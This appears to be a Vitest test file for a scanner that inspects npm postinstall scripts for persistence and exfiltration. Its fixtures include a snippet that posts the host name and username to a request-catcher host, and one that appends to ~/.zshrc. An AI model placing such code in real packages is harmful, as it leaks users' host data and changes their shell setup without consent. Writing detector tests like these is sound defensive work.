/**
 * What of the modules an install script loads runs at install (src/checks/lib/install-reach.ts,
 * read by src/sources/npm/install-code.ts and judged by src/checks/lib/install-code.ts): a module
 * only loaded runs its top level, an export runs when the running code calls it, and the reading
 * goes on past the first 64 modules.
 */
import { describe, expect, test } from 'vitest';
import { readTarball } from '../../src/sources/npm/tarball.js';
import { installCodeFindings } from '../../src/checks/lib/install-code.js';
import { loadedCalls, runningText } from '../../src/checks/lib/install-reach.js';
import { makeTgz, type TarEntry } from './make-tgz.js';

const POSTINSTALL = 'node scripts/postinstall.js';

async function installCode(entries: TarEntry[]) {
  const all = [{ path: 'package/package.json', body: JSON.stringify({ name: 'p', version: '1.0.0', scripts: { postinstall: POSTINSTALL } }) }, ...entries];
  const result = await readTarball(makeTgz(all), {}, [POSTINSTALL]);
  if (result.status !== 'ok') throw new Error(`expected ok, got: ${result.reason}`);
  return result.facts.installCode!;
}

/** A shell-completion installer: writes the user's ~/.zshrc when called. */
const COMPLETION_FUNCTION = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  'exports.installCompletion = function () {',
  "  fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'source ~/.p/completion.zsh\\n');",
  '};',
].join('\n');
const COMPLETION_TOP_LEVEL = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'source ~/.p/completion.zsh\\n');",
].join('\n');
/** Host data posted to a request catcher. */
const RECON = [
  "const os = require('os'), https = require('https');",
  "const req = https.request({ hostname: 'example.oastify.com', method: 'POST', path: '/' + os.hostname() + '/' + os.userInfo().username });",
  'req.end();',
].join('\n');

/** A postinstall that loads `count` small modules lib/m0 … (each `require`d for its load only, and calling `extra`), `special` at its index. */
function loadsModules(count: number, special: Record<number, string>, extra = ''): TarEntry[] {
  const requires = Array.from({ length: count }, (_, i) => `require('../lib/m${i}');`).join('\n');
  const modules = Array.from({ length: count }, (_, i) => ({ path: `package/lib/m${i}.js`, body: special[i] ?? `exports.value${i} = function () { return ${i}; };\n` }));
  return [{ path: 'package/scripts/postinstall.js', body: `${requires}\n${extra}\nconsole.log('done');\n` }, ...modules];
}

describe('the modules a postinstall loads', () => {
  test('one of 100 loaded modules only defines a function that writes ~/.zshrc: read, and no persistence finding', async () => {
    const code = await installCode(loadsModules(100, { 42: COMPLETION_FUNCTION }));
    expect(code.files).toHaveLength(101);
    expect([code.unread, code.missing]).toEqual([[], []]);
    expect(code.files.find((f) => f.path === 'lib/m42.js')?.calls).toEqual([]);
    const reading = installCodeFindings(code);
    expect([...reading.dangerous, ...reading.suspicious]).toEqual([]);
  });

  test('the same module writing ~/.zshrc at its top level: persistence found', async () => {
    const reading = installCodeFindings(await installCode(loadsModules(100, { 42: COMPLETION_TOP_LEVEL })));
    expect(reading.suspicious).toContain('persistence');
    expect(reading.where).toBe('in lib/m42.js');
  });

  test('the postinstall calls the function it defines: persistence found', async () => {
    const code = await installCode(loadsModules(100, { 42: COMPLETION_FUNCTION }, "require('../lib/m42').installCompletion();"));
    expect(code.files.find((f) => f.path === 'lib/m42.js')?.calls).toEqual(['installCompletion']);
    expect(installCodeFindings(code).suspicious).toContain('persistence');
  });

  test('a payload at the top level of the 90th loaded module: read and found', async () => {
    const code = await installCode(loadsModules(100, { 89: RECON }));
    expect(code.unread).toEqual([]);
    const reading = installCodeFindings(code);
    expect(reading.dangerous).toContain('exfiltration');
    expect(reading.where).toBe('in lib/m89.js');
  });

  test('a module whose use is not followed (handed on whole) is judged whole: the function that writes ~/.zshrc is found', async () => {
    const code = await installCode(loadsModules(3, { 1: COMPLETION_FUNCTION }, "register(require('../lib/m1'));"));
    expect(code.files.find((f) => f.path === 'lib/m1.js')?.calls).toBeUndefined();
    expect(installCodeFindings(code).suspicious).toContain('persistence');
  });

  test("a command's module loaded only inside a callback the postinstall registers and does not run: read after, by its top level, and no finding", async () => {
    const postinstall = [
      "const { createProgram } = require('../lib/main');",
      'createProgram();',
    ].join('\n');
    const main = [
      'exports.createProgram = function () {',
      "  const program = { command: () => program, action: (f) => program };",
      "  program.command('completion').action(async () => { const { installCompletion } = require('./completion'); installCompletion(); });",
      '  return program;',
      '};',
    ].join('\n');
    const code = await installCode([
      { path: 'package/scripts/postinstall.js', body: postinstall },
      { path: 'package/lib/main.js', body: main },
      { path: 'package/lib/completion.js', body: COMPLETION_FUNCTION },
    ]);
    expect(code.files.map((f) => [f.path, f.calls])).toEqual([
      ['scripts/postinstall.js', undefined],
      ['lib/main.js', ['createProgram']],
      ['lib/completion.js', []],
    ]);
    const reading = installCodeFindings(code);
    expect([...reading.dangerous, ...reading.suspicious]).toEqual([]);
  });

  test('other code files that fill the pool first give way to a module the postinstall loads: it is read', async () => {
    // Four files of 1 MiB less 10 bytes: the 4 MiB pool is full when lib/a.js comes.
    const filler = Array.from({ length: 4 }, (_, i) => ({ path: `package/other/f${i}.js`, body: `exports.f = ${JSON.stringify('x'.repeat(1024 * 1024 - 26))};\n` }));
    const code = await installCode([{ path: 'package/scripts/postinstall.js', body: "require('../lib/a');\n" }, ...filler, { path: 'package/lib/a.js', body: RECON }]);
    expect(code.unread).toEqual([]);
    expect(code.files.map((f) => f.path)).toEqual(['scripts/postinstall.js', 'lib/a.js']);
    expect(installCodeFindings(code).dangerous).toContain('exfiltration');
  });

  test('past the 256 files read, the rest is unread and the verdict not clean', async () => {
    const code = await installCode(loadsModules(300, {}));
    expect(code.files).toHaveLength(256);
    expect(code.unread).toHaveLength(45);
    expect(code.unreadCauses?.['lib/m255.js']).toEqual({ cap: 'files', limit: 256 });
  });
});

describe('the exports the running code calls', () => {
  test('by destructuring, by member, through a namespace, through re-exports; a module handed on is all of it', () => {
    const running = [
      "const { a, b: c } = require('./x');",
      "const ns = require('./y');",
      "import * as z from './z.js';",
      "import d from './d.js';",
      "require('./only');",
      "await import('./dyn.js');",
      "register(require('./whole'));",
      'c(); ns.go(); z.run(); d();',
      "export { go as start } from './re.js';",
    ].join('\n');
    const calls = loadedCalls(running, 'lib/index.js', new Set(['start']));
    const plain = Object.fromEntries([...calls].map(([path, called]) => [path, called === 'all' ? 'all' : [...called]]));
    expect(plain).toEqual({ 'lib/x': ['b'], 'lib/y': ['go'], 'lib/z.js': ['run'], 'lib/d.js': 'all', 'lib/only': [], 'lib/dyn.js': [], 'lib/whole': 'all', 'lib/re.js': ['go'] });
  });

  test('what runs of a module: its top level and the exports called; all of it when a called name is not defined there', () => {
    const text = "exports.go = function () { writeIt(); };\nexports.idle = function () { idleWork(); };\nsetup();\n";
    const running = runningText(text, new Set(['go']));
    expect(running).toContain('writeIt');
    expect(running).toContain('setup');
    expect(running).not.toContain('idleWork');
    expect(runningText(text, new Set())).not.toContain('writeIt');
    expect(runningText(text, new Set(['elsewhere']))).toBe(text);
  });
});
